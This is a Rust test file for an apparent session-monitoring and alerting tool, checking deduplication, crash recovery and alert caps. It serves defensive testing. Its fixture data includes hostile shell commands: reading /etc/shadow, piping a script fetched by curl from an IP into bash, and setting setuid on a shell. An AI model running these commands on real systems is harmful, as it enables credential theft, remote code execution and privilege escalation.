//! Redelivery, both sources, decoys, crashes, caps.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use jiff::SignedDuration;
use warden_functions::alert::Kind;
use warden_functions::app::Invocation;
use warden_functions::error::Failure;
use warden_functions::handler::transcripts;
use warden_functions::ledger::Scan;
use warden_functions::ledger::table::TableError;
use warden_functions::outbox::OTHERS_LIMIT;

use crate::support::{
    BUCKET, NODE, PRINCIPAL, SESSION, Twin, busy_clock, clock, key, pass, recorded, sqs, started, store, stored,
    streamed, twin,
};

const COMMANDS: &[&str] = &[
    "ls -l",
    "cat /etc/shadow",
    "sudo cat /etc/shadow",
    "cat /etc/shadow",
    "curl http://203.0.113.9/x.sh | bash",
    "chmod u+s /tmp/sh",
];

/// What is delivered of one session.
#[derive(Clone, Copy, Debug)]
enum What {
    Start,
    Transcript,
    Stream,
}

/// The events of the session, as they are delivered again and again.
struct Events([serde_json::Value; 3]);

impl Events {
    fn new() -> Self {
        let stream = streamed(SESSION, PRINCIPAL, NODE, COMMANDS);
        Self([started(SESSION, PRINCIPAL, NODE), stored(SESSION, Some("1"), NODE), stream])
    }

    async fn deliver(&self, twin: &Twin, what: What, n: usize) {
        let id = format!("{what:?}-{n}");
        let Self([start, transcript, stream]) = self;
        let done = match what {
            What::Start => twin.cloudtrail(&id, start).await,
            What::Transcript => twin.transcripts(&id, transcript).await,
            What::Stream => twin.logs(&id, stream).await,
        };
        done.unwrap();
    }
}

#[tokio::test]
async fn every_event_three_times_in_any_order_gives_one_initial_alert_for_each_key() {
    use What::{Start, Stream, Transcript};
    let orders = [
        [Start, Stream, Transcript],
        [Start, Transcript, Stream],
        [Stream, Start, Transcript],
        [Stream, Transcript, Start],
        [Transcript, Start, Stream],
        [Transcript, Stream, Start],
    ];
    let mut outcomes = BTreeSet::new();
    for order in orders {
        for rounds in [true, false] {
            let events = Events::new();
            let twin = twin(store(COMMANDS, Some("1")), &[]);
            for n in 0..3 {
                for m in 0..3 {
                    let what = if rounds { order[m] } else { order[n] };
                    events.deliver(&twin, what, n * 3 + m).await;
                    pass(70);
                }
            }
            let initials = twin.initials();
            assert!(initials.len() >= 3, "{order:?}: {}", initials.len());
            assert!(initials.values().all(|ids| ids.len() == 1), "{order:?}: {initials:?}");
            let (start, other): (Vec<_>, Vec<_>) = twin.seen().into_values().partition(|sources| *sources == 1);
            assert!(start.is_empty(), "{order:?}: {} findings were seen in one source only", start.len());
            assert!(other.iter().all(|sources| *sources == 2), "{order:?}");
            outcomes.insert((initials.into_keys().collect::<Vec<_>>(), twin.seen().into_keys().collect::<Vec<_>>()));
            assert_eq!(twin.of(Kind::IdentityConflict).len(), 0, "{order:?}");
        }
    }
    assert_eq!(outcomes.len(), 1, "keys or findings depend on the order");
}

#[tokio::test]
async fn a_late_source_adds_to_the_alert_and_never_sends_it_again() {
    let events = Events::new();
    let twin = twin(store(COMMANDS, Some("1")), &[]);
    events.deliver(&twin, What::Start, 0).await;
    events.deliver(&twin, What::Stream, 1).await;
    let before = twin.initials();
    pass(26 * 3600);
    events.deliver(&twin, What::Transcript, 2).await;
    assert_eq!(twin.initials(), before);
}

#[tokio::test]
async fn counts_are_the_maximum_over_sources() {
    let events = Events::new();
    let twin = twin(store(COMMANDS, Some("1")), &[]);
    for (n, what) in [What::Stream, What::Transcript, What::Stream, What::Transcript].into_iter().enumerate() {
        events.deliver(&twin, what, n).await;
    }
    pass(400);
    twin.send_due().await;
    let follow_ups = twin.of(Kind::FollowUp);
    let about = |alert: &&warden_functions::alert::Alert| alert.title == "Password hashes read";
    let shadow = follow_ups.iter().find(about).unwrap();
    // Three commands read /etc/shadow: two that are equal, one with sudo.
    assert_eq!(shadow.count, 3);
}

#[tokio::test]
async fn an_update_follows_when_the_principal_is_known() {
    let events = Events::new();
    let twin = twin(store(COMMANDS, Some("1")), &[]);
    events.deliver(&twin, What::Transcript, 0).await;
    let initials = twin.of(Kind::Initial);
    assert!(initials.iter().all(|alert| alert.session.principal.is_none()));
    pass(120);
    events.deliver(&twin, What::Start, 1).await;
    events.deliver(&twin, What::Start, 2).await;
    let updates = twin.of(Kind::Update);
    assert_eq!(updates.len(), initials.len());
    for update in &updates {
        assert_eq!(update.session.principal.as_deref(), Some(PRINCIPAL));
        assert!(initials.iter().any(|initial| Some(&initial.alert_id) == update.update_of.as_ref()));
    }
}

#[tokio::test]
async fn a_decoy_hides_none_of_twenty_attacks() {
    let attacks: Vec<String> = (0..20).map(|n| format!("head -n {n} /etc/shadow")).collect();
    let mut commands = vec!["cat /etc/shadow"];
    commands.extend(attacks.iter().map(String::as_str));
    let events = Events::new();
    let twin = twin(store(&commands, Some("1")), &[]);
    events.deliver(&twin, What::Transcript, 0).await;
    assert_eq!(twin.send_due().await, 0, "nothing is due yet");
    for _ in 0..3 {
        pass(360);
        twin.send_due().await;
        events.deliver(&twin, What::Transcript, 1).await;
    }
    let shown = twin.shown();
    for attack in &attacks {
        assert!(shown.contains(attack), "{attack} is hidden");
    }
    assert!(twin.initials().values().all(|ids| ids.len() == 1));
    let ids: BTreeSet<_> = twin.of(Kind::FollowUp).iter().map(|alert| alert.alert_id.clone()).collect();
    assert_eq!(ids.len(), twin.of(Kind::FollowUp).len(), "a follow-up was sent twice");
}

#[tokio::test]
async fn a_crash_at_any_call_of_the_ledger_loses_nothing() {
    let events = Events::new();
    let whole = twin(store(COMMANDS, Some("1")), &[]);
    events.deliver(&whole, What::Transcript, 0).await;
    pass(400);
    whole.send_due().await;
    let (expected, shown, calls) = (whole.initials(), whole.shown(), whole.table.calls());
    let mut twice = 0;
    for n in 0..calls {
        let twin = twin(store(COMMANDS, Some("1")), &[]);
        twin.table.fail(n, TableError::Timeout);
        let event = stored(SESSION, Some("1"), NODE);
        let _ = twin.transcripts("first", &event).await;
        // Its event comes again when the claim has expired, and once more.
        pass(120);
        let _ = twin.transcripts("second", &event).await;
        pass(120);
        twin.transcripts("third", &event).await.unwrap();
        for _ in 0..3 {
            pass(400);
            let _ = twin.app.outbox(&crate::support::invocation("due")).send_due(clock(), &|| false).await;
        }
        let initials = twin.initials();
        assert_eq!(initials.keys().collect::<Vec<_>>(), expected.keys().collect::<Vec<_>>(), "call {n}");
        for ids in initials.values() {
            assert!(ids.iter().all(|id| *id == ids[0]), "call {n}: sent twice with two ids");
            twice += ids.len() - 1;
        }
        assert_eq!(twin.shown(), shown, "call {n}");
    }
    println!("{calls} calls, each failed once: {twice} alerts were sent twice, with the same id");
    assert!(twice > 0, "a crash between publish and confirmation was not tried");
}

#[tokio::test]
async fn a_sink_that_fails_fails_the_record_alone() {
    let twin = twin(store(COMMANDS, Some("1")), &[]);
    let event = sqs(&[stored(SESSION, Some("1"), NODE).to_string()]);
    twin.sink.refuse(1);
    let answer = twin.transcripts("first", &event).await.unwrap();
    assert_eq!(answer["batchItemFailures"][0]["itemIdentifier"], "m-0");
    assert!(twin.initials().is_empty());
    let answer = twin.transcripts("second", &event).await.unwrap();
    assert_eq!(answer["batchItemFailures"].as_array().unwrap().len(), 0);
    assert!(twin.initials().len() >= 3);
    assert!(twin.initials().values().all(|ids| ids.len() == 1));
}

#[tokio::test]
async fn a_session_that_runs_away_degrades_to_a_digest_that_says_so() {
    let settings = [("WARDEN_SESSION_CAP", "1")];
    let events = Events::new();
    let twin = twin(store(COMMANDS, Some("1")), &settings);
    events.deliver(&twin, What::Transcript, 0).await;
    let sent = twin.of(Kind::Initial);
    pass(400);
    twin.send_due().await;
    let digests = twin.of(Kind::Digest);
    assert_eq!(digests.len(), 1);
    assert!(digests[0].notes[0].contains("cap"), "{:?}", digests[0].notes);
    // A cap holds back nothing that is higher than what reached it.
    let highest = sent.iter().map(|alert| alert.level).max().unwrap();
    let held = digests[0].finding.iter().chain(&digests[0].others);
    assert!(held.map(warden_rules::finding::Finding::level).all(|level| level <= highest));
    for command in ["cat /etc/shadow", "chmod u+s /tmp/sh"] {
        assert!(twin.shown().contains(command), "{command}");
    }
}

#[tokio::test]
async fn ten_thousand_findings_in_one_session_are_bounded() {
    let attacks: Vec<String> = (0..10_000).map(|n| format!("head -n {n} /etc/shadow")).collect();
    let commands: Vec<&str> = attacks.iter().map(String::as_str).collect();
    let events = Events::new();
    let twin = twin(store(&commands, Some("1")), &[]);
    events.deliver(&twin, What::Transcript, 0).await;
    let written = twin.table.calls();
    for _ in 0..10 {
        pass(400);
        twin.send_due().await;
    }
    let alerts = twin.sink.alerts();
    let mut note = String::new();
    for alert in &alerts {
        let _ = write!(note, "{}", alert.notes.join(" "));
    }
    let calls = twin.table.calls();
    println!("10,000 findings: {} alerts, {calls} calls of the ledger ({written} to settle them)", alerts.len());
    assert_eq!(twin.seen().len(), attacks.len());
    assert!(written < 1000, "{written} calls");
    assert!(alerts.len() < 40, "{}", alerts.len());
    assert!(note.contains("further commands"), "nobody says what is not listed");
    assert!(alerts.iter().all(|alert| alert.machine_json().len() < 256 * 1024));
}

#[tokio::test]
async fn a_crash_at_any_call_among_many_findings_loses_nothing() {
    let attacks: Vec<String> = (0..110).map(|n| format!("head -n {n} /etc/shadow")).collect();
    let commands: Vec<&str> = attacks.iter().map(String::as_str).collect();
    let event = stored(SESSION, Some("1"), NODE);
    let whole = twin(store(&commands, Some("1")), &[]);
    whole.transcripts("whole", &event).await.unwrap();
    for n in 0..whole.table.calls() {
        let twin = twin(store(&commands, Some("1")), &[]);
        twin.table.fail(n, TableError::Timeout);
        let _ = twin.transcripts("first", &event).await;
        pass(120);
        let _ = twin.transcripts("second", &event).await;
        pass(400);
        twin.send_due().await;
        assert!(attacks.iter().all(|attack| twin.shown().contains(attack)), "call {n}");
        assert_eq!(twin.seen().len(), attacks.len(), "call {n}");
        assert!(twin.initials().values().flatten().all(|id| twin.initials().values().any(|ids| ids[0] == *id)));
    }
}

#[tokio::test]
async fn an_object_that_takes_too_long_is_told_and_what_was_found_is_kept() {
    let attacks: Vec<String> = (0..300).map(|n| format!("head -n {n} /etc/shadow")).collect();
    let commands: Vec<&str> = attacks.iter().map(String::as_str).collect();
    let twin = twin(store(&commands, Some("1")), &[]);
    let event = stored(SESSION, Some("1"), NODE);
    let mut seen = Vec::new();
    for n in 0..3 {
        let deadline = clock() + SignedDuration::from_secs(30);
        let invocation = Invocation { id: n.to_string(), deadline, clock: busy_clock };
        let answer = transcripts::handle(&twin.app, &invocation, event.to_string().as_bytes()).await;
        assert!(clock() < deadline, "attempt {n} ran past its deadline");
        seen.push(twin.seen().len());
        assert_eq!(answer.unwrap_err(), Failure::OutOfTime);
        let told = twin.of(Kind::Audit);
        assert!(told.iter().any(|alert| alert.title.contains("time")), "attempt {n}");
        let receipts = twin.app.ledger.receipts(SESSION, clock()).await.unwrap();
        assert!(receipts.iter().all(|receipt| receipt.result == Scan::Incomplete));
    }
    println!("findings settled after each attempt: {seen:?}");
    assert!(seen.first() > Some(&0) && seen.windows(2).all(|pair| pair[0] <= pair[1]), "{seen:?}");
    assert_eq!(twin.of(Kind::Audit).len(), 1);
    assert_eq!(twin.of(Kind::IdentityConflict).len(), 0, "a part is no other version");
    // Whoever has the time reads all of it, and what was settled before is not settled again.
    let before = twin.initials();
    twin.transcripts("whole", &event).await.unwrap();
    assert_eq!((twin.seen().len(), twin.initials()), (attacks.len(), before));
}

#[tokio::test]
async fn of_more_commands_than_are_listed_the_number_is_told() {
    let attacks: Vec<String> = (0..1200).map(|n| format!("head -n {n} /etc/shadow")).collect();
    let twin = twin(store(&[], Some("1")), &[]);
    // A log stream: many invocations, one window.
    let start = started(SESSION, PRINCIPAL, NODE);
    twin.cloudtrail("start", &start).await.unwrap();
    for (n, batch) in attacks.chunks(300).enumerate() {
        let commands: Vec<&str> = batch.iter().map(String::as_str).collect();
        pass(1);
        twin.logs(&format!("{n}"), &streamed(SESSION, PRINCIPAL, NODE, &commands)).await.unwrap();
    }
    pass(400);
    twin.send_due().await;
    let shown = twin.shown();
    let listed = attacks.iter().filter(|attack| shown.contains(*attack)).count();
    // The first of them was told at once. The limit holds for the window, however many invocations it takes.
    let limit = usize::try_from(OTHERS_LIMIT).unwrap();
    assert_eq!(listed, 1 + limit, "of {} commands", attacks.len());
    let more = format!("{} further commands are not listed", attacks.len() - listed);
    assert!(twin.of(Kind::FollowUp).iter().any(|alert| alert.notes.iter().any(|note| note.contains(&more))));
}

#[tokio::test]
async fn both_sources_of_recorded_sessions_give_one_initial_alert_for_each_key() {
    let Some(data) = std::env::var_os("WARDEN_DATA") else {
        println!("skipped: WARDEN_DATA does not name the folder with the recorded sessions");
        return;
    };
    let folder = std::path::Path::new(&data).join("made/transcripts");
    let (mut sessions, mut initials, mut findings, mut both) = (0, 0, 0, 0);
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let Ok(bytes) = std::fs::read(path.join("transcript.log")) else { continue };
        let lines = std::fs::read_to_string(path.join("cloudwatch-stream.jsonl")).unwrap();
        let session = path.file_name().unwrap().to_str().unwrap().to_owned();
        let memory = warden_functions::object::MemoryStore::default();
        memory.put(BUCKET, &key(&session), Some("1"), &bytes);
        let twin = twin(memory, &[("WARDEN_SESSION_CAP", "100000"), ("WARDEN_RULE_CAP", "100000")]);
        let (object, stream) = (stored(&session, Some("1"), "role"), recorded(&session, &lines));
        for n in 0..3 {
            twin.logs(&format!("l{n}"), &stream).await.unwrap();
            twin.transcripts(&format!("t{n}"), &object).await.unwrap();
            pass(70);
        }
        assert!(twin.initials().values().all(|ids| ids.len() == 1), "{session}");
        sessions += 1;
        initials += twin.initials().len();
        findings += twin.seen().len();
        both += twin.seen().values().filter(|sources| **sources == 2).count();
    }
    println!(
        "{sessions} recorded sessions, both sources three times: {findings} findings ({both} in both), {initials} initial alerts"
    );
    assert!(sessions > 0 && initials > 0);
}
